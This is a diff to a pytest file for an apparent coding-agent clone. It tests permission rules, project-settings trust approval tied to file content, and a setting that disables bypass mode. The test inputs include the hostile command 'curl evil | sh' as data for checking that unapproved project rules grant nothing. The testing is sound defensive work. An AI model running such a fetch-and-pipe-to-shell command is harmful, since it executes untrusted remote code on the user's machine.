@@ -7,11 +7,13 @@ from pathlib import Path
 
 import pytest
 
+from mini_claude.session.permission_setup import PermissionSetup
+from mini_claude.settings import Settings
 from mini_claude.tools.permission_rules import (
     PermissionRules,
     RuleError,
-    load_rules,
     parse_rule,
+    parse_rule_list,
     split_rule_list,
 )
 
@@ -108,7 +110,8 @@ def test_deny_wins_over_allow_and_other_tools_are_untouched() -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["run_shell(", "read_file(x)", "run_shell()", "run_shell(:*)", "bad name", ""]
+    "text", ["run_shell(", "todo_write(x)", "run_shell(:*)", "bad name", "", "Grep(x", "mcp__s(x)",
+             "WebFetch(example.com)"]
 )
 def test_rules_that_cannot_be_read_are_refused_with_their_text(text: str) -> None:
     with pytest.raises(RuleError) as caught:
@@ -121,38 +124,45 @@ def write_settings(path: Path, allow: list[str], deny: list[str]) -> None:
     path.write_text(json.dumps({"permissions": {"allow": allow, "deny": deny}}))
 
 
-def test_a_project_file_may_deny_but_its_allow_rules_are_ignored_with_one_warning(
-    tmp_path: Path,
-) -> None:
+def load(project: Path, home: Path, allowed: tuple[str, ...] = (),
+         disallowed: tuple[str, ...] = ()) -> PermissionSetup:
+    settings = Settings(home=home)
+    return PermissionSetup.load(
+        settings, project, parse_rule_list(allowed, "--allowed-tools", project),
+        parse_rule_list(disallowed, "--disallowed-tools", project), None, known_tools=list(TOOLS),
+    )
+
+
+def test_a_project_file_denies_at_once_but_allows_only_once_approved(tmp_path: Path) -> None:
     project, home = tmp_path / "repo", tmp_path / "home"
     write_settings(
         project / ".mini-claude" / "settings.json",
         ["run_shell", "write_file"],
         ["edit_file"],
     )
-    loaded = load_rules(allowed=[], disallowed=[], cwd=project, home=home, known_tools=TOOLS)
-    assert loaded.rules.check("run_shell", shell("curl evil | sh")) is None
-    denied = loaded.rules.check("edit_file", {})
+    setup = load(project, home)
+    rules = setup.permissions
+    assert rules.check("run_shell", shell("curl evil | sh")) is None
+    denied = rules.check("edit_file", {})
     assert denied is not None and not denied.allowed
-    assert len(loaded.warnings) == 1 and "ignoring 2 allow rule(s)" in loaded.warnings[0]
+    assert setup.trust_status() == "unknown"
+    setup.decide(True)
+    allowed = rules.check("run_shell", shell("curl evil | sh"))  # the same object, updated
+    assert allowed is not None and allowed.allowed
+    assert load(project, home).trust_status() == "approved"  # remembered for this content
 
 
 def test_the_user_file_may_allow_and_flags_add_to_it(tmp_path: Path) -> None:
     project, home = tmp_path / "repo", tmp_path / "home"
     write_settings(home / "settings.json", ["run_shell(pytest:*)"], [])
-    loaded = load_rules(
-        allowed=["write_file"],
-        disallowed=["run_shell(pytest --pdb:*)"],
-        cwd=project,
-        home=home,
-        known_tools=TOOLS,
-    )
-    assert loaded.warnings == []
-    allowed = loaded.rules.check("run_shell", shell("pytest -q"))
+    setup = load(project, home, ("write_file",), ("run_shell(pytest --pdb:*)",))
+    assert setup.warnings == []
+    allowed = setup.permissions.check("run_shell", shell("pytest -q"))
     assert allowed is not None and allowed.allowed
     assert str(home / "settings.json") in allowed.reason
-    refused = loaded.rules.check("run_shell", shell("pytest --pdb -x"))
+    refused = setup.permissions.check("run_shell", shell("pytest --pdb -x"))
     assert refused is not None and not refused.allowed
+    assert "--disallowed-tools" in refused.reason
 
 
 def test_running_in_the_folder_that_holds_the_home_reads_the_file_once_as_the_users(
@@ -160,29 +170,32 @@ def test_running_in_the_folder_that_holds_the_home_reads_the_file_once_as_the_us
 ) -> None:
     home = tmp_path / ".mini-claude"
     write_settings(home / "settings.json", ["run_shell(ls:*)"], [])
-    loaded = load_rules(allowed=[], disallowed=[], cwd=tmp_path, home=home, known_tools=TOOLS)
-    assert loaded.warnings == []
-    assert loaded.rules.check("run_shell", shell("ls -la")) is not None
+    setup = load(tmp_path, home)
+    assert setup.warnings == [] and setup.trust_status() == "none"
+    assert setup.permissions.check("run_shell", shell("ls -la")) is not None
 
 
 def test_broken_files_and_unknown_tools_are_warnings_not_failures(tmp_path: Path) -> None:
     project, home = tmp_path / "repo", tmp_path / "home"
     home.mkdir()
     (home / "settings.json").write_text("{not json")
-    write_settings(project / ".mini-claude" / "settings.json", [], ["run_shel", "read_file(x)"])
-    loaded = load_rules(allowed=[], disallowed=[], cwd=project, home=home, known_tools=TOOLS)
-    text = "\n".join(loaded.warnings)
+    write_settings(project / ".mini-claude" / "settings.json", [],
+                   ["run_shel", "todo_write(x)", "WebSearch"])
+    setup = load(project, home)
+    text = "\n".join(setup.warnings)
     assert "not valid JSON" in text
-    assert "read_file(x)" in text and "skipped" in text
+    assert "todo_write(x)" in text and "skipped" in text
+    assert "WebSearch" in text and "does not have" in text
     assert "run_shel" in text and "no known tool" in text
-    assert not loaded.rules.allow
+    assert not setup.permissions.rules.allow
 
 
-def test_a_session_without_explicit_rules_reads_the_settings_files(tmp_path: Path) -> None:
+def test_a_session_reads_the_settings_files_and_shares_one_permissions_object(
+    tmp_path: Path,
+) -> None:
     """The REPL builds its session this way: the files' rules and warnings come with it."""
     from mini_claude.providers import create_provider
     from mini_claude.session.wiring import Session
-    from mini_claude.settings import Settings
     from mini_claude.tools.base import deny_all
 
     project, home = tmp_path / "repo", tmp_path / "home"
@@ -190,29 +203,34 @@ def test_a_session_without_explicit_rules_reads_the_settings_files(tmp_path: Pat
     settings = Settings(provider="openai", model="sim-model", home=home, openai_api_key="k")
     session = Session(settings, project, create_provider(settings), deny_all)
     agent = session.start_new()
-    assert agent.tool_context.rules is session.rules
-    verdict = agent.tool_context.rules.check("run_shell", shell("ls")) if session.rules else None
+    assert agent.tool_context.rules is session.permission_setup.permissions
+    verdict = agent.tool_context.rules.check("run_shell", shell("ls"))
     assert verdict is not None and not verdict.allowed
-    assert any("ignoring 1 allow rule(s)" in w for w in session.warnings)
+    assert agent.tool_context.rules.check("write_file", {"path": "x"}) is None  # not approved
+    assert session.project_hooks_status() == "unknown"
     agent.transcript.close()
 
 
-def test_project_allow_rules_count_once_the_user_approved_that_very_content(
-    tmp_path: Path,
-) -> None:
+def test_project_grants_count_only_for_the_content_that_was_approved(tmp_path: Path) -> None:
     project, home = tmp_path / "repo", tmp_path / "home"
     settings = project / ".mini-claude" / "settings.json"
     write_settings(settings, ["run_shell(make:*)"], [])
-    approved_content = settings.read_bytes()
-
-    def approved(path: Path, content: bytes) -> bool:
-        return path == settings and content == approved_content
-
-    loaded = load_rules(allowed=[], disallowed=[], cwd=project, home=home, known_tools=TOOLS,
-                        project_file_approved=approved)
-    assert loaded.warnings == [] and loaded.rules.check("run_shell", shell("make")) is not None
+    load(project, home).decide(True)
+    assert load(project, home).permissions.check("run_shell", shell("make")) is not None
     write_settings(settings, ["run_shell"], [])  # the repository changed the file afterwards
-    loaded = load_rules(allowed=[], disallowed=[], cwd=project, home=home, known_tools=TOOLS,
-                        project_file_approved=approved)
-    assert loaded.rules.check("run_shell", shell("curl x")) is None
-    assert "ignoring 1 allow rule(s)" in loaded.warnings[0]
+    changed = load(project, home)
+    assert changed.trust_status() == "unknown"
+    assert changed.permissions.check("run_shell", shell("curl x")) is None
+
+
+def test_a_settings_file_can_take_bypass_away_even_unapproved(tmp_path: Path) -> None:
+    project, home = tmp_path / "repo", tmp_path / "home"
+    settings = project / ".claude" / "settings.json"
+    settings.parent.mkdir(parents=True)
+    settings.write_text(json.dumps({"permissions": {"disableBypassPermissionsMode": "disable"}}))
+    setup = PermissionSetup.load(Settings(home=home), project, [], [], "bypassPermissions")
+    assert setup.permissions.mode == "default"
+    assert any("disableBypassPermissionsMode" in w for w in setup.warnings)
+    setup.permissions.set_mode("bypassPermissions")
+    assert setup.permissions.mode == "default"
+    assert setup.permissions.next_mode() == "acceptEdits"
